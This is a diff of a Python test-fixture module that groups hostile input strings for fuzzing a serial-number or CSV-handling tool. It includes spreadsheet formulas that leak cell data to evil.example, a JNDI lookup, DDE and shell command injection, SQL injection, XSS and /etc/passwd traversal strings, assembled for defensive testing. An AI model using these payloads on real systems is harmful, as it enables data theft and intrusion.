@@ -1,25 +1,30 @@
-"""Texts that somebody may send as a serial to do harm, by what they are aimed at."""
+"""Texts that break who takes them for more than text, by what they attack."""
 
 from __future__ import annotations
 
-FORMULAS = [
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+2+3",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    "＝1+1",
+    "'=1+1",
     "=1+1",
     "+1+1",
     "-1+1",
     "@SUM(1+1)",
     '=HYPERLINK("http://x.example/?"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
     "\n=1+1",
     "  =1+1",
-    "\u00a0=1+1",
-    "'=1+1",
+    "\xa0=1+1",
     '"=1+1',
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
     "\u200b=1+1",
     "\ufeff=1+1",
     'a",=1+1,"',
@@ -27,8 +32,127 @@ FORMULAS = [
     '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
     "%0A=1+1",
     "|calc",
-]
-NUMBERS = [
+)
+QUOTES = (
+    '"',
+    "'",
+    "'' ; \"\"",
+    'a","b',
+    "a;b,c\td",
+    '""""',
+    "\\",
+    '\\"',
+    'a"b',
+    "a'b",
+    'a""b',
+    "a`b",
+    "a,b",
+    "a;b",
+    "a\tb",
+    "\u201ca\u201d",
+)
+BREAKS = (
+    "a\nb",
+    "a\r\nb",
+    "a\rb",
+    "a\u2028b",
+    "a\u2029b",
+    "a\x0bb",
+    "a\x0cb",
+    "a\x85b",
+    "\n",
+)
+CONTROL = (
+    "a\x00b",
+    "\x1b[2J\x1b[31mPASS\x1b[0m",
+    "\x1b]0;owned\x07",
+    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b31mPASS",
+    "FAIL\b\b\b\bPASS",
+    "\x7f",
+    "\x07",
+    "a\x1b[31mb",
+    "a\x07b",
+)
+UNSEEN = (
+    "SN\u202e1000\u202c",
+    "SN\u20661\u2069",
+    "SN\u200b1",
+    "SN\u200d1",
+    "\ufeffSN1",
+    "SN\xad1",
+    "SN\u00a01",
+    "SN1\U000e0041",
+    "a\u200db",
+    "a\xadb",
+    "\ufeffabc",
+    "abc\u202egnp.exe",
+    "\u200fabc",
+    "\u2066abc\u2069",
+    "\u061cabc",
+    "\u05e9\u05dc\u05d5\u05dd",
+    "\u0645\u0631\u062d\u0628\u0627 12",
+)
+LONG = ("x" * 10_000, "é" * 10_000, "9" * 10_000)
+SQL = (
+    "'; DROP TABLE row; --",
+    "' OR '1'='1",
+    '" OR ""="',
+    "1); DELETE FROM row; --",
+    "%",
+    "_",
+    "SN*?[a-z]",
+    "1); DELETE FROM row",
+    '" OR 1=1 --',
+)
+MARKUP = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "<!--",
+    "]]>",
+    "&lt;&amp;&#0;",
+    "[bold red]PASS[/bold red]",
+    "{{7*7}}",
+    "<img src=x onerror=alert(1)>",
+    "&lt;b&gt;",
+    "</td></tr>",
+    "${7*7}",
+    "{% raw %}",
+    "_x0041_",
+)
+PATHS = (
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "file:///etc/passwd",
+    "%2e%2e%2f",
+    "CON",
+    "-rf",
+    "..\\..\\x",
+    "a/b",
+    ".",
+)
+FORMATS = (
+    "%s%n%x",
+    "{0.__class__}",
+    "${jndi:ldap://evil.example/a}",
+    "$(reboot)",
+    "`reboot`",
+    "%(x)s",
+)
+SURROGATES = ("\ud800", "SN\udcff1", "\udfff\ud800")
+NUMBERS = (
+    "NaN",
+    "Infinity",
+    "-0",
+    "1e309",
+    "0x1F",
+    "1_000",
+    "None",
+    "null",
+    "true",
+    "١٢٣",
     "000123",
     "0",
     "00",
@@ -41,36 +165,47 @@ NUMBERS = [
     "TRUE",
     "MAR1",
     "Sept 12",
-    "0x1F",
     "007 ",
     "1e400",
-    "NaN",
-    "Infinity",
     "#N/A",
     "#REF!",
-]
-QUOTES = ['a"b', "a'b", 'a""b', "a`b", "a,b", "a;b", "a\tb", "\\", '\\"', "“a”"]
-NEWLINES = ["a\nb", "a\r\nb", "a\rb", "a\u2028b", "a\u0085b", "a\x0bb", "\n", " "]
-DIRECTIONS = ["abc\u202egnp.exe", "\u200fabc", "\u2066abc\u2069", "\u061cabc", "שלום", "مرحبا 12"]
-CONTROLS = ["a\x00b", "a\x1b[31mb", "a\x07b", "\x7f", "a\u200db", "a\u00adb", "\ufeffabc"]
-MARKUP = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "&lt;b&gt;",
-    "</td></tr>",
-    "]]>",
-    "{{7*7}}",
-    "${7*7}",
-    "{% raw %}",
-    "javascript:alert(1)",
-    "_x0041_",
-]
-SQL = ["'; DROP TABLE row; --", "' OR '1'='1", "%", "_", "1); DELETE FROM row", '" OR 1=1 --']
-PATHS = ["../../etc/passwd", "/etc/passwd", "..\\..\\x", "a/b", "CON", "."]
-LONG = ["x" * 10_240, "=" + "1+" * 5000 + "1", "é" * 10_240]
-UNICODE = ["漢字", "🙂", "e\u0301", "ﬁ", "\U000e0041x", "\ufffd"]
+)
+LOOKALIKES = (
+    "😀",
+    "👩‍👩‍👧",
+    "ΡASS",
+    "РASS",
+    "ＳＮ１",
+    "Å",
+    "A\u030a",
+    "ſ",
+    "İ",
+    "\U0001d54a",
+    "\u6f22\u5b57",
+    "\U0001f642",
+    "e\u0301",
+    "\ufb01",
+    "\U000e0041x",
+    "\ufffd",
+)
+SPACES = ("", " ", "  SN1  ", "SN  1")
 
-HOSTILE_TEXTS = [
-    *FORMULAS, *NUMBERS, *QUOTES, *NEWLINES, *DIRECTIONS, *CONTROLS, *MARKUP, *SQL, *PATHS, *LONG,
-    *UNICODE,
-]  # fmt: skip
+HOSTILE: dict[str, tuple[str, ...]] = {
+    "formulas": FORMULAS,
+    "quotes": QUOTES,
+    "breaks": BREAKS,
+    "control": CONTROL,
+    "unseen": UNSEEN,
+    "long": LONG,
+    "sql": SQL,
+    "markup": MARKUP,
+    "paths": PATHS,
+    "formats": FORMATS,
+    "surrogates": SURROGATES,
+    "numbers": NUMBERS,
+    "lookalikes": LOOKALIKES,
+    "spaces": SPACES,
+}
+ALL = tuple(text for texts in HOSTILE.values() for text in texts)
+STORABLE = tuple(text for text in ALL if text not in SURROGATES)
+"""What a log can hold: the others are no Unicode."""
